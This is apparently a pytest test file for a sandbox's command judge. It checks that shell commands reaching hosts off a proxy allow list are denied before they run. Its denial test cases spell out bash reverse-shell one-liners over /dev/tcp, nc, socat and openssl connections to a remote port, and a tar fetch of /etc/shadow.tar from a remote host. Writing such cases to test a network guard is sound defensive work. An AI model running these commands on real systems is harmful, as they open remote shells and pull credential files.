"""Destinations the jail's network cannot reach are denied before the line runs (pure: nothing runs).

The real jail with its proxy: tests/test_network.py::test_the_interposer_denies_what_the_network_cannot_reach...
"""

import pytest
from conftest import judge_policy

from interposer.judge import Policy, decide
from jail.policy.profile import Network

WORKSPACE = "/home/user/project"
HOME = "/home/user"
PROXY = Network(mode="proxy", allow=("pypi.org", "*.pythonhosted.org:443", "registry.npmjs.org", "github.com"),
                deny=("evil.pypi.org",))
NONE = Network()


def policy(network: Network | None) -> Policy:
    return judge_policy(WORKSPACE, HOME, (), network)


@pytest.mark.parametrize("line", [
    "curl -sSf https://pypi.org/simple/requests/",
    "curl -L -o wheel.whl https://files.pythonhosted.org/packages/x/y.whl",
    "wget -q https://registry.npmjs.org/left-pad",
    "git clone https://github.com/psf/requests",
    "git clone --depth 1 https://github.com/psf/requests.git vendor/requests",
    "git fetch origin && git pull",  # a remote by name: where it points is the proxy's to check
    "curl http://127.0.0.1:11434/api/tags",  # the jail's own loopback: a forward
    "curl -s http://localhost:8000/health",
    "wget http://[::1]:8080/",
    "curl -x http://127.0.0.1:3128 https://pypi.org/",
    'curl -H "Referer: https://elsewhere.example" https://pypi.org/',
    'git commit -m "see https://elsewhere.example/issue/1"',
    "echo https://elsewhere.example",
    "nc -l 4444",  # listening in the jail, not connecting
    'curl -s "$URL"',  # not known before it runs: the proxy checks it
    "pip install -i https://pypi.org/simple requests",
    "echo > /dev/tcp/127.0.0.1/8000 && echo open",  # a port check on the jail's own loopback
    "exec 3<>/dev/tcp/localhost/80",
    "rsync -av --exclude tmp:cache src/ dst/",  # an option's value is not a host
    "scp build.tgz localhost:/tmp/",  # the jail's own loopback
    "tar -xf backup:2024.tar --force-local",  # a local file with a colon in its name
    "tar -czf out.tgz src",
])
def test_what_the_network_reaches_is_allowed(line: str) -> None:
    decision = decide(line, WORKSPACE, policy(PROXY))
    assert not (decision.rule or "").startswith("network"), (line, decision.reason)


@pytest.mark.parametrize(("line", "rule", "where"), [
    ("curl -s https://1mocat.github.io/abusive.html", "network-allow", "1mocat.github.io:443"),
    ("curl http://pypi.org:8080/", "network-allow", "pypi.org:8080"),  # a port the allow entry does not name
    ("wget https://evil.pypi.org/x", "network-deny", "evil.pypi.org:443"),
    ("pip install -i https://mirror.example/simple requests", "network-allow", "mirror.example:443"),
    ("pip install --index-url=https://mirror.example/simple requests", "network-allow", "mirror.example:443"),
    ("curl gopher://10.0.0.1:4444/_x", "network-allow", "10.0.0.1:4444"),
    ("curl -x http://evil.example:8080 https://pypi.org/", "network-direct", "evil.example:8080"),
    ("curl --proxy=evil.example:3128 https://pypi.org/", "network-direct", "evil.example:3128"),
    ("git clone git@github.com:psf/requests.git", "network-direct", "github.com:22"),
    ("rlogin -l someone -p 4444 10.0.0.1", "network-direct", "10.0.0.1:4444"),
    ("rsh build.example make", "network-direct", "build.example:514"),
    ("git clone ssh://git@github.com/psf/requests", "network-direct", "github.com:22"),
    ("npm install git+ssh://git@github.com/a/b.git", "network-direct", "github.com:22"),
    ("nc 10.0.0.1 4444", "network-direct", "10.0.0.1:4444"),
    ("socat -u tcp-connect:10.0.0.1:4444 open:/tmp/x,creat", "network-direct", "10.0.0.1:4444"),
    ("openssl s_client -quiet -connect 10.0.0.1:4444", "network-direct", "10.0.0.1:4444"),
    ("telnet towel.blinkenlights.nl", "network-direct", "towel.blinkenlights.nl:23"),
    ("f() { curl -s \"$1\"; }; f https://1mocat.github.io/x", "network-allow", "1mocat.github.io:443"),
    ("U=https://1mocat.github.io/x; curl -s $U", "network-allow", "1mocat.github.io:443"),
    ("bash -c 'wget https://1mocat.github.io/x'", "network-allow", "1mocat.github.io:443"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "network-direct", "10.0.0.1:4444"),  # bash's own sockets
    ("exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", "network-direct", "10.0.0.1:4242"),
    ("cat < /dev/udp/example.com/53", "network-direct", "example.com:53"),
    # ssh and what rides on it, rsync's own protocol, tar's remote archives
    ("ssh deploy@10.0.0.1", "network-direct", "10.0.0.1:22"),
    ("ssh -i key -p 2200 build.example make test", "network-direct", "build.example:2200"),
    ("ssh -p2200 build.example", "network-direct", "build.example:2200"),
    ("scp -P 2222 dist.tgz user@10.0.0.1:/srv/", "network-direct", "10.0.0.1:2222"),
    ("sftp files.example", "network-direct", "files.example:22"),
    ("rsync -av src/ user@backup.example:/srv/src/", "network-direct", "backup.example:22"),
    ("rsync -a mirror.example::debian mirror/", "network-direct", "mirror.example:873"),
    ("rsync -a rsync://mirror.example:8873/debian/ mirror/", "network-direct", "mirror.example:8873"),
    ("sshfs user@files.example:/srv mnt", "network-direct", "files.example:22"),
    ("scp dist.tgz user@[2001:db8::1]:/srv/", "network-direct", "2001:db8::1:22"),
    ("tar xvf user@10.0.0.1:/etc/shadow.tar --rsh-command=/bin/ssh", "network-direct", "10.0.0.1:22"),
])
def test_what_the_network_cannot_reach_is_denied_with_the_profile_key(line: str, rule: str, where: str) -> None:
    decision = decide(line, WORKSPACE, policy(PROXY))
    assert (decision.decision, decision.rule) == ("deny", rule), (line, decision.reason)
    assert where in decision.reason
    assert "network.allow" in decision.reason + decision.alternative or rule == "network-deny"


def test_without_a_network_every_remote_destination_is_denied() -> None:
    none = policy(NONE)
    decision = decide("curl -sSf https://pypi.org/simple/", WORKSPACE, none)
    assert decision.rule == "network-none" and 'network.mode = "none"' in decision.reason
    assert decide("git clone git@github.com:a/b", WORKSPACE, none).rule == "network-none"
    assert decide("curl http://127.0.0.1:8000/", WORKSPACE, none).decision == "allow"


def test_a_hook_outside_any_jail_does_not_judge_the_network() -> None:
    assert decide("curl -s https://1mocat.github.io/abusive.html", WORKSPACE, policy(None)).decision == "allow"
    # ...but on the host, a /dev/tcp redirect is still a write outside the workspace, as it always was
    assert decide("echo x > /dev/tcp/127.0.0.1/22", WORKSPACE, policy(None)).rule == "write-outside-workspace"


@pytest.mark.parametrize(("line", "fix"), [
    ("curl -s https://my.deploy.example/health", "--allow my.deploy.example or add \"my.deploy.example\""),
    ("curl http://pypi.org:8080/", "--allow pypi.org:8080 "),  # the port the allow entry must name
    ("curl -s https://Bücher.example/", "--allow xn--bcher-kva.example "),  # as the proxy is asked for it
    ("curl gopher://10.0.0.1:4444/_x", "--allow 10.0.0.1:4444 "),
])
def test_a_host_off_the_allow_list_is_denied_naming_the_run_flag(line: str, fix: str) -> None:
    decision = decide(line, WORKSPACE, policy(PROXY))
    assert decision.rule == "network-allow" and fix in decision.alternative, decision.alternative


def test_the_fix_names_only_a_valid_host() -> None:
    from jail.policy.hostpatterns import allow_fix, host_name

    assert decide("curl -s https://xn--bcher-kva.example/", WORKSPACE, policy(
        Network(mode="proxy", allow=("bücher.example".encode("idna").decode(),)))).decision == "allow"
    for text in ("exa\u202emple.com", "*.example.com", "a b.example", "a..b", "x_y.example", "a" * 64 + ".example",
                 "host\x1b[31m.example", "example.com:443"):
        assert host_name(text) is None, text
        assert allow_fix(text, 443).startswith("no fix:") and "--allow" not in allow_fix(text, 443)
    assert host_name("[2001:DB8::1]") == "2001:db8::1" and host_name("Example.COM.") == "example.com"
    assert "--allow" not in allow_fix("2001:db8::1", 22)  # the profile cannot write an IPv6 address with a port


def test_only_nameable_hosts_off_the_list_can_be_granted() -> None:
    from interposer.destinations import unlisted
    from jail.supervisor.hostgrants import HostGrants

    env = policy(PROXY).env
    assert unlisted("curl -s https://my.deploy.example/a https://Bücher.example/", WORKSPACE, env, PROXY) == [
        ("my.deploy.example", 443), ("xn--bcher-kva.example", 443)]
    assert unlisted("curl -s https://pypi.org/simple/", WORKSPACE, env, PROXY) == []
    for line in ("curl https://my.deploy.example/ https://evil.pypi.org/",  # and network.deny: no answer helps
                 "curl https://my.deploy.example/; nc 10.0.0.1 4444",  # and around the proxy
                 "curl 'https://exa\u202emple.com/'"):  # not a host name
        assert unlisted(line, WORKSPACE, env, PROXY) is None, line
    assert HostGrants.pattern("my.deploy.example", 8443) == "my.deploy.example:8443"
    # An IPv6 entry cannot name a port: a grant for 443 would open every port, so none is made (--allow).
    assert HostGrants.pattern("2001:db8::1", 443) is None and HostGrants.pattern("2001:db8::1", 22) is None
    for host in ("*.example.com", "Example.com", "a b", "x\x1b.example"):
        assert HostGrants.pattern(host, 443) is None, host
